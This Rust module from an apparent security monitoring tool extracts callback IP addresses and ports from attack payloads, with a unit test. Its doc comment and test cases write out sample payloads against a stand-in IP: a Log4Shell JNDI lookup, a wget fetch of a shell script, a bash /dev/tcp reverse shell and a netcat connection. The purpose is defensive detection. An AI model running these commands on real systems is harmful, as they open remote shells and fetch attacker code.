//! Addresses that an attack's payload carried: where it wants the server to call.
//!
//! `${jndi:ldap://203.0.113.9:1389/a}`, `wget http://203.0.113.9/x.sh`, `/dev/tcp/203.0.113.9/4444`. Only addresses
//! written as such: facts know no names. Percent-encoding is undone once.

use std::net::IpAddr;

use hinomi_model::Finding;

/// Addresses taken from one attack. A payload carries one or two; more is noise meant to make us look.
const MAX_CARRIED: usize = 8;

/// An address with the port it is to be called on; `None` when the payload leaves it to the scheme we don't know.
pub(super) type Carried = (IpAddr, Option<u16>);

/// Words after which a command names whom it calls.
const COMMANDS: &[&str] = &["wget ", "curl ", "nc ", "ncat ", "fetch ", "tftp ", "ping "];

/// Returns the addresses that the lines of an attack carried.
pub(super) fn of(finding: &Finding) -> Vec<Carried> {
    let mut found: Vec<Carried> = Vec::new();
    for line in &finding.evidence {
        addresses(&decode(&line.raw), &mut found);
    }
    for indicator in &finding.indicators {
        addresses(&decode(&indicator.value), &mut found);
    }
    found.sort_unstable();
    found.dedup();
    found.truncate(MAX_CARRIED);
    found
}

fn addresses(text: &str, found: &mut Vec<Carried>) {
    for (at, _) in text.match_indices("://") {
        let scheme = text.get(..at).unwrap_or("");
        let scheme = scheme.rsplit(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or("");
        let port = match scheme {
            "ldap" => Some(389),
            "ldaps" => Some(636),
            "rmi" => Some(1099),
            "dns" => Some(53),
            "http" => Some(80),
            "https" => Some(443),
            "ftp" => Some(21),
            _ => None,
        };
        found.extend(text.get(at + 3..).and_then(|rest| address(rest, port)));
    }
    for (at, word) in text.match_indices("/dev/tcp/").chain(text.match_indices("/dev/udp/")) {
        found.extend(text.get(at + word.len()..).and_then(|rest| address(rest, None)));
    }
    for command in COMMANDS {
        for (at, word) in text.match_indices(command) {
            found.extend(text.get(at + word.len()..).and_then(|rest| address(rest.trim_start(), None)));
        }
    }
}

/// Reads an address with an optional port (`:1389`, or `/4444` and ` 4444` as shells write it) at the start of text.
fn address(text: &str, default_port: Option<u16>) -> Option<Carried> {
    if let Some(rest) = text.strip_prefix('[') {
        let (ip, rest) = rest.split_once(']')?;
        return Some((ip.parse().ok()?, port(rest).or(default_port)));
    }
    let end = text.find(|c: char| !c.is_ascii_digit() && c != '.').unwrap_or(text.len());
    let ip = text.get(..end)?.trim_end_matches('.').parse().ok()?;
    Some((ip, port(text.get(end..)?).or(default_port)))
}

fn port(text: &str) -> Option<u16> {
    let digits = text.strip_prefix([':', '/', ' '])?;
    let end = digits.find(|c: char| !c.is_ascii_digit()).unwrap_or(digits.len());
    digits.get(..end)?.parse().ok().filter(|port| *port != 0)
}

/// Undoes percent-encoding of ASCII once, in lower case.
fn decode(raw: &str) -> String {
    let mut plain = String::with_capacity(raw.len());
    let mut rest = raw;
    while let Some(at) = rest.find('%') {
        plain.push_str(rest.get(..at).unwrap_or(""));
        let code =
            rest.get(at + 1..at + 3).and_then(|hex| u8::from_str_radix(hex, 16).ok()).filter(u8::is_ascii);
        match code {
            Some(byte) => {
                plain.push(char::from(byte));
                rest = rest.get(at + 3..).unwrap_or("");
            }
            None => {
                plain.push('%');
                rest = rest.get(at + 1..).unwrap_or("");
            }
        }
    }
    plain.push_str(rest);
    plain.make_ascii_lowercase();
    plain
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_read_with_their_ports() {
        type Expected<'e> = &'e [(&'e str, Option<u16>)];
        let cases: [(&str, Expected<'_>); 7] = [
            ("x=${jndi:ldap://203.0.113.9:1389/a}", &[("203.0.113.9", Some(1389))]),
            ("x=$%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", &[("203.0.113.9", Some(389))]),
            ("q=wget http://203.0.113.9/x.sh", &[("203.0.113.9", Some(80))]),
            ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", &[("203.0.113.9", Some(4444))]),
            ("nc 203.0.113.9 4444", &[("203.0.113.9", Some(4444))]),
            ("ldap://[2001:db8::1]:1389/a", &[("2001:db8::1", Some(1389))]),
            ("url=\"https://www.town.example/\" srcip=203.0.113.9 100%", &[]),
        ];
        for (text, expected) in cases {
            let mut found = Vec::new();
            addresses(&decode(text), &mut found);
            let expected: Vec<Carried> =
                expected.iter().map(|(ip, port)| (ip.parse().unwrap(), *port)).collect();
            assert_eq!(found, expected, "{text}");
        }
    }
}
